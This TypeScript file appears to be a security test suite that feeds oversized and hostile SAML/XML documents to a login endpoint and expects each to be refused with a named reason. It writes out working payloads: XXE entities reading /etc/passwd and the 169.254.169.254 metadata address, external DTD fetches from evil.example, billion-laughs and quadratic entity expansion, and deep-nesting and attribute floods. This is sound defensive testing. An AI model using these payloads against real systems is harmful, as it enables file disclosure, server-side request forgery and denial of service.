// Documents that cost more than they are worth (S9): refused before they cost it.
import { type Attack, post, swap } from './saml-attack.ts'

// The document is replaced by another.
const send =
  (document: string | Buffer): NonNullable<Attack['bring']> =>
  ({ state }) =>
    post({ SAMLResponse: Buffer.from(document).toString('base64'), RelayState: state })
const doctype =
  (inner: string, reference = '') =>
  (xml: string) =>
    `<!DOCTYPE Response ${inner}>${xml.replace(/(?<=<saml:NameID>)[^<]*/, all => reference || all)}`
const laughs = Array.from({ length: 10 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join('')
const nested = (depth: number, inner = '') => `${'<samlp:a>'.repeat(depth)}${inner}${'</samlp:a>'.repeat(depth)}`
const extended = (inner: string) => swap('<samlp:Status>', `<samlp:Extensions>${inner}</samlp:Extensions><samlp:Status>`)
const advised = (inner: string) => swap('</saml:Assertion>', `<saml:Advice>${inner}</saml:Advice></saml:Assertion>`)
const many = (count: number, write: (index: number) => string) => Array.from({ length: count }, (_, index) => write(index)).join(' ')
const spaces = `${' '.repeat(180_000)}!`
// 62 deep, 64 prefixes at each, and leaves in their scope.
const scoped = `${many(58, depth => `<samlp:a ${many(60, index => `xmlns:p${depth}x${index}="u"`)}>`)}${'<samlp:a xmlns:q="u"/>'.repeat(1800)}${'</samlp:a>'.repeat(58)}`

const documents: readonly Attack[] = [
  { name: 'S9 a document type', reason: 'doctype', alter: doctype('') },
  { name: 'S9 a document type in small letters', reason: 'doctype', alter: xml => `<!doctype Response>${xml}` },
  {
    name: 'S9 a document type elsewhere',
    reason: 'doctype',
    alter: (xml, scene) => xml.replace('<saml:Subject>', all => `${doctype('')('')}${all}${scene.state.slice(99)}`),
  },
  { name: 'S9 a file by an entity', reason: 'doctype', alter: doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', '&x;') },
  { name: 'S9 an address by an entity', reason: 'doctype', alter: doctype('[<!ENTITY x SYSTEM "http://169.254.169.254/">]', '&x;') },
  { name: 'S9 a document type of elsewhere', reason: 'doctype', alter: doctype('SYSTEM "http://evil.example/x.dtd"') },
  { name: 'S9 an entity for parameters', reason: 'doctype', alter: doctype('[<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]') },
  { name: 'S9 a billion laughs', reason: 'doctype', alter: doctype(`[<!ENTITY l0 "lol">${laughs}]`, '&l10;') },
  { name: 'S9 quadratic growth', reason: 'doctype', alter: doctype(`[<!ENTITY a "${'a'.repeat(50_000)}">]`, '&a;'.repeat(1000)) },
  { name: 'S9 an attribute that is an ID by declaration', reason: 'doctype', alter: doctype('[<!ATTLIST saml:Assertion x ID #IMPLIED>]') },
  { name: 'S9 a declaration without a document type', reason: 'doctype', alter: swap('<saml:Subject>', '<!ENTITY x "y"><saml:Subject>') },
  { name: 'S9 a declaration of no kind', reason: 'malformed', alter: swap('<saml:Subject>', '<!x><saml:Subject>') },
  { name: 'S9 10 MB', reason: 'too_large', bring: send(`<a>${'a'.repeat(10 * 1024 * 1024)}</a>`) },
  { name: 'S9 one byte too many', reason: 'too_large', bring: send('a'.repeat(256 * 1024 + 1)) },
  {
    name: 'S9 10 MB of other fields',
    reason: 'too_large',
    bring: ({ message, state }) => post({ SAMLResponse: message, RelayState: state, a: 'a'.repeat(10 * 1024 * 1024) }),
  },
  { name: 'S9 65 deep', reason: 'too_deep', alter: extended(nested(63)) },
  { name: 'S9 10,000 deep', reason: 'too_deep', alter: extended(nested(10_000)) },
  { name: 'S9 10,000 deep and never closed', reason: 'too_deep', bring: send('<a>'.repeat(10_000)) },
  { name: 'S9 10,000 elements', reason: 'too_many_elements', alter: extended('<samlp:a/>'.repeat(10_000)) },
  {
    name: 'S9 10,000 attributes',
    reason: 'too_many_elements',
    alter: extended(`<samlp:a ${Array.from({ length: 10_000 }, (_, index) => `a${index}=""`).join(' ')}/>`),
  },
  {
    name: 'S9 1,000 namespaces',
    reason: 'too_many_elements',
    alter: extended(`<samlp:a ${Array.from({ length: 1000 }, (_, index) => `xmlns:a${index}="b"`).join(' ')}/>`),
  },
  { name: 'S9 a tag of 250,000 characters', reason: 'malformed', bring: send(`<${'a'.repeat(250_000)}`) },
  { name: 'S9 a tag of 200 characters', reason: 'malformed', alter: extended(`<samlp:${'a'.repeat(200)}/>`) },
  { name: 'S9 250,000 spaces in a tag', reason: 'malformed', bring: send(`<a${' '.repeat(250_000)}`) },
  { name: 'S9 250,000 times less than', reason: 'malformed', bring: send('<'.repeat(250_000)) },
  { name: 'S9 250,000 times and', reason: 'entity', bring: send(`<a>${'&'.repeat(250_000)}</a>`) },
  { name: 'S9 a quote that never ends', reason: 'malformed', bring: send(`<a ${'b="'.repeat(60_000)}`) },
  { name: 'S9 an element that never ends', reason: 'malformed', alter: swap('</samlp:Response>', '') },
  { name: 'S9 an end that belongs to another', reason: 'malformed', alter: swap('</samlp:Response>', '</samlp:response>') },
  { name: 'S9 text behind the root', reason: 'malformed', alter: xml => `${xml}text` },
  { name: 'S9 no XML', reason: 'malformed', bring: send('{"admin":true}') },
]

const signed: readonly Attack[] = [
  ...['DigestValue', 'SignatureValue'].map(
    (name): Attack => ({ name: `S9 180,000 spaces in ${name}`, reason: 'signature_shape', alter: swap(new RegExp(`(?<=<ds:${name}>)[^<]*`), spaces) }),
  ),
  { name: 'S9 a signature value of 100,000 characters', reason: 'signature_shape', alter: swap(/(?<=<ds:SignatureValue>)[^<]*/, 'A'.repeat(100_000)) },
  {
    name: 'S9 100,000 prefixes that canonicalization has to keep',
    reason: 'transforms',
    alter: swap(
      /(<ds:Transform Algorithm="[^"]*exc-c14n#")\/>/,
      `<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"><ec:InclusiveNamespaces xmlns:ec="http://www.w3.org/2001/10/xml-exc-c14n#" PrefixList="${'a '.repeat(100_000)}"/></ds:Transform>`,
    ),
  },
  { name: 'S9 prefixes for each of 1,800 leaves', reason: 'too_many_elements', alter: extended(scoped) },
  {
    name: 'S9 27,000 attributes, signed by an attacker, with many certificates',
    reason: 'too_many_elements',
    by: 'attacker',
    signs: 'both',
    hasManyCertificates: true,
    prepare: advised(`<saml:x ${many(60, index => `a${index}="1"`)}/>`.repeat(450)),
  },
  {
    name: 'S9 3,600 attributes, signed by an attacker, with many certificates',
    reason: 'signature',
    by: 'attacker',
    signs: 'both',
    hasManyCertificates: true,
    prepare: advised('<saml:x a="1" b="2"/>'.repeat(1800)),
  },
  {
    name: 'S9 3,600 attributes under a signature of the provider for something else',
    reason: 'signature',
    hasManyCertificates: true,
    alter: advised('<saml:x a="1" b="2"/>'.repeat(1800)),
  },
]

/** All of them. */
export const bombAttacks: readonly Attack[] = [...documents, ...signed]
